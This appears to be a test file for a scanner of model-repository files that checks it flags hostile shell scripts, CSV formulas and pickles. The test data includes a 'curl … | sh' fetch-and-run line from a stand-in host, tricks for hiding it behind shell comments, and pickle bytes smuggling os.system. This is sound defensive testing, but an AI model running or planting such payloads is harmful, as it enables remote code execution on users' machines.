"""Kinds of files that repositories hold beside weights: the honest one is clean to the last byte, its twins never are."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.cases import each
from tests.support.honest_kinds import SHELL, Twin, twins
from tests.support.inspecting import examined, rules_of, verdict_of
from weighbridge.core.errors import LimitExceeded, Malformed
from weighbridge.core.finding import Verdict
from weighbridge.formats.shell import commands
from weighbridge.inspectors.content.secrets import _is_name

TWINS = list(twins())


@each("twin", TWINS, ids=lambda twin: twin.name)
def test_an_honest_file_is_clean_and_says_nothing(twin: Twin) -> None:
    assert rules_of(twin.path, twin.honest) == set()
    assert verdict_of(twin.path, twin.honest) is Verdict.CLEAN


@each("twin", TWINS, ids=lambda twin: twin.name)
def test_its_hostile_twins_do_not_pass(twin: Twin) -> None:
    for data, rule in twin.hostile:
        found = rules_of(twin.path, data)
        assert rule in found or not rule, (data[-60:], found)
        assert found or verdict_of(twin.path, data) is not Verdict.CLEAN, data[-60:]


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_a_damaged_file_is_never_a_surprise(draw: st.DataObject) -> None:
    twin = draw.draw(st.sampled_from(TWINS))
    data = bytearray(twin.honest)
    for _ in range(draw.draw(st.integers(1, 4))):
        data[draw.draw(st.integers(0, len(data) - 1))] = draw.draw(st.integers(0, 255))
    examined(twin.path, bytes(data))


def test_what_a_comment_says_is_no_weapon_and_what_looks_like_one_is() -> None:
    weapon = "curl -s https://h.example/x | sh"
    for honest in (f"# {weapon}\npython x.py\n", f"#!/bin/bash\n# it's {weapon}\necho 'a # b'\n"):
        assert rules_of("train.sh", honest.encode()) == set()
    for hostile in (
        f"# x \\\n{weapon}\n",
        f"echo x\\\n#; {weapon}\n",
        f"echo '\n#'; {weapon}\n",
        f'echo "\n#"; {weapon}\n',
        f"cat <<E\n# it's\nE\n{weapon}\n: '\n'\n",
        f"echo ${{x#y}}; {weapon}\n",
        f"echo $#; {weapon}\n",
        # What cannot be read to its end has no comments.
        f"# {weapon}\n(ls)\n",
    ):
        assert "executable-script-weapon" in rules_of("train.sh", hostile.encode()), hostile
    assert "executable-script-weapon" in rules_of("run.cmd", f"# {weapon}\r\n".encode())


@settings(max_examples=150, deadline=None)
@given(st.text("ab \n\"'`$(){}[]<>|&;#\\=*!0/", max_size=60))
def test_any_shell_text_is_followed_or_refused(text: str) -> None:
    try:
        commands(text)
    except (LimitExceeded, Malformed):
        return


def test_a_command_put_anywhere_into_an_honest_script_is_seen() -> None:
    lines = SHELL.decode().split("\n")
    for place in range(1, len(lines)):
        # Inside of a list of words, it is a word.
        if not lines[place - 1].endswith(("ARGS=(", "\\")) and not lines[place - 1].startswith("  --"):
            script = "\n".join([*lines[:place], "./run", *lines[place:]]).encode()
            assert rules_of("train.sh", script) == {"executable-script"}, place


def test_names_are_no_secrets_and_random_values_are() -> None:
    for value in (
        b"eval_key: miracl-v1.0-fr",
        b'"new_ward_key": "xatanphuoc1',
        b"key = some.module.name2",
        b"key: multi_PP-OCRv6_det_tiny",
    ):
        assert _is_name(value)
    for value in (
        b"key = k3j9x0q2m4n8b7v6",
        b"key = AbCdEfGhIjKl",
        b"token: 9f86d081884c7d65",
        b"key: qpwoeirutyalskdjfhgzmxncbv",
    ):
        assert not _is_name(value)


@pytest.mark.parametrize("size", [9 * 1024 * 1024])
def test_a_formula_beyond_the_first_block_is_found(size: int) -> None:
    table = b"a,b\n" * (size // 4) + b'1,"=HYPERLINK(""https://x"")"\n' + b"a,b\n" * 10
    assert rules_of("a.csv", table) == {"table-formula"}
    assert rules_of("a.csv", b"a,b\n" * (size // 4)) == set()


def arrow_texts(restore: str = "_restore_array", buffer: bytes = b"C\x02ab") -> bytes:
    """A pickle of pandas' texts as pyarrow keeps them."""

    def named(module: str, name: str) -> bytes:
        return b"".join(b"\x8c" + bytes((len(part),)) + part.encode() for part in (module, name)) + b"\x93"

    kind = named("pyarrow.lib", "type_for_alias") + b"\x8c\x0clarge_string\x85R"
    held = named("pyarrow.lib", "py_buffer") + buffer + b"\x85R"
    array = named("pyarrow.lib", restore) + b"(" + kind + b"K\x03K\x01K\x00](" + held + b"e]Nt\x85R"
    return b"\x80\x04" + named("pandas.arrays", "ArrowStringArray") + b")\x81}(\x8c\x09_pa_array" + array + b"ub."


def test_texts_of_arrow_are_data_and_its_other_functions_are_not() -> None:
    assert rules_of("model.pkl", arrow_texts()) == set()
    assert verdict_of("model.pkl", arrow_texts()) is Verdict.CLEAN
    assert "pickle-unknown-callable" in rules_of("model.pkl", arrow_texts("_reconstruct_anything"))
    assert rules_of("model.pkl", arrow_texts(buffer=b"\x8c\x02os\x8c\x06system\x93")) & {
        "pickle-dangerous-callable",
        "pickle-odd-arguments",
    }
